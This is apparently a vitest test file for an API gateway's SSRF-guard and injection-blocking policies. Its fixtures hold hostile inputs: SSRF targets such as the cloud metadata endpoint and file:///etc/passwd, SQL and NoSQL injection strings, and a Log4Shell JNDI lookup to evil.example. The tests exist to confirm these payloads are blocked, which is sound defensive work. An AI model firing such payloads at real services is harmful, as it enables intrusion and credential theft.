import { loadApiFromString } from '@rampart/openapi';
import { request } from 'undici';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createGateway, type Gateway } from '../src/index.js';
import { collectEvents, type EventCollector } from './collect-events.js';
import { startUpstream, type TestUpstream } from './start-upstream.js';

const DESCRIPTION = `
openapi: 3.0.3
info: { title: Inspection test, version: '1' }
paths:
  /webhooks:
    post:
      requestBody:
        content:
          application/json:
            schema:
              type: object
              properties:
                target: { type: string, format: uri }
                name: { type: string }
                options: { type: object, properties: { avatarUrl: { type: string } } }
      responses: { '201': { description: created } }
  /fetch:
    get:
      parameters: [{ name: src, in: query, schema: { type: string, format: url } }, { name: q, in: query, schema: { type: string } }]
      responses: { '200': { description: ok } }
  /search:
    get:
      parameters: [{ name: q, in: query, schema: { type: string } }]
      responses: { '200': { description: ok } }
    post:
      requestBody: { content: { application/json: { schema: { type: object } }, application/x-www-form-urlencoded: { schema: { type: object } } } }
      responses: { '200': { description: ok } }
`;

let upstream: TestUpstream;
let events: EventCollector;
let model: Awaited<ReturnType<typeof loadApiFromString>>;
const gateways: Gateway[] = [];

async function start(policies: Record<string, unknown>) {
  const gateway = createGateway({
    listen: { port: 0 },
    adminListen: false,
    upstreams: [upstream.url],
    routing: { model },
    eventSink: events.sink,
    policies,
  });
  gateways.push(gateway);
  return `http://127.0.0.1:${(await gateway.listen()).port}`;
}

async function call(base: string, path: string, body?: unknown, contentType = 'application/json') {
  const res = await request(`${base}${path}`, {
    method: body === undefined ? 'GET' : 'POST',
    ...(body !== undefined
      ? {
          body: typeof body === 'string' ? body : JSON.stringify(body),
          headers: { 'content-type': contentType },
        }
      : {}),
  });
  const text = await res.body.text();
  return { status: res.statusCode, text, id: String(res.headers['x-request-id']) };
}

beforeAll(async () => {
  upstream = await startUpstream();
  events = collectEvents();
  model = await loadApiFromString(DESCRIPTION, 'inspection.yaml');
});
afterAll(async () => {
  await Promise.all(gateways.map((g) => g.close()));
  await upstream.close();
});

describe('ssrf-guard policy', () => {
  let base: string;
  beforeAll(async () => {
    base = await start({ 'ssrf-guard': { parameters: ['mirror'] } });
  });

  it('lets public URLs through', async () => {
    expect((await call(base, '/webhooks', { target: 'https://93.184.215.14/hook', name: 'x' })).status).toBe(
      200,
    );
    expect((await call(base, '/fetch?src=http://93.184.215.14/a.png')).status).toBe(200);
  });

  it.each([
    ['a format: uri body property', { target: 'http://169.254.169.254/latest/meta-data/' }],
    ['a URL-named nested property', { options: { avatarUrl: 'http://[::ffff:127.0.0.1]:6379/' } }],
    ['a configured property name', { mirror: 'http://0x7f000001/' }],
    ['a localhost name', { target: 'http://localhost:8080/admin' }],
    ['a private address', { target: 'http://10.0.0.7/' }],
    ['a file: URL', { target: 'file:///etc/passwd' }],
  ])('refuses %s with 400', async (_, body) => {
    const res = await call(base, '/webhooks', body);
    expect(res.status).toBe(400);
    expect(JSON.parse(res.text).detail).toMatch(/is not allowed/);
    expect((await events.waitFor((e) => e.id === res.id)).deniedBy?.policy).toBe('ssrf-guard');
  });

  it('checks URL-typed query parameters, including decimal IPv4 spellings', async () => {
    expect((await call(base, '/fetch?src=http://2130706433/')).status).toBe(400);
    expect((await call(base, '/fetch?q=http://127.0.0.1/')).status).toBe(200); // not a URL parameter
    expect((await call(base, '/fetch?callback_url=http://[fd00:ec2::254]/')).status).toBe(400);
  });
});

describe('injection policy', () => {
  it('blocks injections in the query, JSON and form bodies with 403', async () => {
    const base = await start({ injection: {} });
    expect((await call(base, '/search?q=blue%20shoes')).status).toBe(200);
    expect((await call(base, '/search', { q: 'red shirt', page: 2 })).status).toBe(200);
    const sqli = await call(base, `/search?q=${encodeURIComponent("' OR '1'='1' --")}`);
    expect(sqli.status).toBe(403);
    const event = await events.waitFor((e) => e.id === sqli.id);
    expect(event.deniedBy?.reason).toMatch(/^injection: sqli/);
    expect(event.deniedBy?.reason).not.toContain("'1'='1'");
    expect((await call(base, '/search', { q: { $where: 'sleep(5000)' } })).status).toBe(403);
    expect(
      (
        await call(
          base,
          '/search',
          'q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D',
          'application/x-www-form-urlencoded',
        )
      ).status,
    ).toBe(403);
  });

  it('only marks the event in observe mode', async () => {
    const base = await start({ injection: { mode: 'observe' } });
    const res = await call(base, `/search?q=${encodeURIComponent('1 UNION SELECT password FROM users--')}`);
    expect(res.status).toBe(200);
    const event = await events.waitFor((e) => e.id === res.id);
    expect(event.verdict).toBe('observe');
    expect(event.deniedBy?.policy).toBe('injection');
  });
});
